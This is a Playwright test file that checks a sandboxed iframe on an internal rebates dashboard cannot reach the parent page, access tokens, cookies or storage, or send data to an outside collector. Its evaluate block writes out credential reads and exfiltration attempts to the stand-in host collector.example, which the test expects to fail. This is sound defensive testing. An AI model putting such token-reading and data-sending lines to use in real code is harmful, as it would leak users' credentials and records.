import { expect, type Page, test } from '@playwright/test';
import { rebatesFramePath } from '@backdock/core/allowances/rebates/rebates-frame.ts';
import { people, signIn, web } from '../people.ts';

const path = `${web()}/internal/rebates-dashboard`;

async function scriptFrame(page: Page) {
  await expect(page.frameLocator('iframe').getByRole('heading')).toHaveText(/^\d+ rebates in \d{4}$/);
  const frame = page.frames().find((each) => each.url().endsWith(rebatesFramePath));
  if (!frame) throw new Error('The frame is gone.');
  return frame;
}

test('an outside script shows the rebates, and reaches neither the page nor anyone else', async ({
  page,
}) => {
  await signIn(page, people.accountant);
  // It would answer whatever got through.
  const reached: string[] = [];
  await page.route('https://collector.example/**', async (route) => {
    reached.push(route.request().url());
    await route.fulfill({ body: 'thanks', headers: { 'access-control-allow-origin': '*' } });
  });
  await page.goto(path);
  const frame = await scriptFrame(page);
  await expect(page.frameLocator('iframe').getByRole('row').nth(1)).toContainText(/\$[\d,]+\.\d\d/);

  // What the script in the frame could try; each entry says how the browser refused.
  const tried = await frame.evaluate(async (own) => {
    const refused = async (attempt: () => unknown) => {
      try {
        return `worked: ${String(await attempt())}`;
      } catch (error) {
        return (error as Error).name;
      }
    };
    const loads = (element: HTMLImageElement | HTMLScriptElement, src: string) =>
      new Promise((resolve, reject) => {
        element.addEventListener('load', resolve);
        element.addEventListener('error', () => reject(new TypeError('blocked')));
        element.src = src;
        document.body.append(element);
      });
    return {
      origin: self.origin,
      page: await refused(() => parent.document.title),
      pageAddress: await refused(() => parent.location.href),
      tokens: await refused(() => localStorage.getItem('access-token')),
      pageTokens: await refused(() => parent.localStorage.getItem('access-token')),
      cookies: await refused(() => document.cookie),
      database: await refused(
        () =>
          new Promise((resolve, reject) => {
            const request = indexedDB.open('own');
            request.addEventListener('success', resolve);
            request.addEventListener('error', () => reject(request.error ?? new Error('refused')));
          }),
      ),
      api: await refused(() => fetch(`${own}/api/current-user`)),
      elsewhere: await refused(() => fetch('https://collector.example/')),
      picture: await refused(() => loads(new Image(), 'https://collector.example/a.png')),
      script: await refused(() => loads(document.createElement('script'), `${own}/assets/app.js`)),
      beacon: navigator.sendBeacon('https://collector.example/') ? 'queued' : 'refused',
      leaving: await refused(() => {
        (top as Window).location.href = 'https://collector.example/';
      }),
      window: window.open('https://collector.example/') === null ? 'null' : 'opened',
      calls: String('RTCPeerConnection' in globalThis),
    };
  }, web());
  expect(tried).toEqual({
    origin: 'null',
    page: 'SecurityError',
    pageAddress: 'SecurityError',
    tokens: 'SecurityError',
    pageTokens: 'SecurityError',
    cookies: 'SecurityError',
    database: 'SecurityError',
    api: 'TypeError',
    elsewhere: 'TypeError',
    picture: 'TypeError',
    script: 'TypeError',
    beacon: expect.stringMatching(/queued|refused/),
    leaving: 'SecurityError',
    window: 'null',
    calls: 'false',
  });
  // Nor can it take the rows along by moving on.
  await frame.evaluate(() => {
    setTimeout(() => {
      location.href = 'https://collector.example/?rows';
    });
  });
  await expect(page.frameLocator('iframe').getByRole('heading', { name: /rebates in/ })).toHaveCount(0);
  expect(reached).toEqual([]);
  await expect(page).toHaveURL(path);
});

test('a script that is not the configured one does not run, and our own figures show instead', async ({
  page,
}) => {
  await signIn(page, people.accountant);
  await page.route('**/rebates-dashboard.js', (route) =>
    route.fulfill({
      contentType: 'text/javascript',
      headers: { 'access-control-allow-origin': '*' },
      body: 'document.body.textContent = "other"',
    }),
  );
  await page.goto(path);
  await expect(page.getByRole('alert')).toContainText('The dashboard’s script couldn’t be loaded.');
  await expect(page.getByRole('table', { name: 'Rebates with the most to gain' })).toBeVisible();
  await expect(page.getByText('Out of reach')).toBeVisible();
});

test('nothing shows to those who cannot read agreements', async ({ page }) => {
  await signIn(page, people.logistics);
  await page.goto(path);
  await expect(page.getByRole('alert')).toContainText('falls out of your scope of responsibilities');
  expect(page.frames()).toHaveLength(1);
});
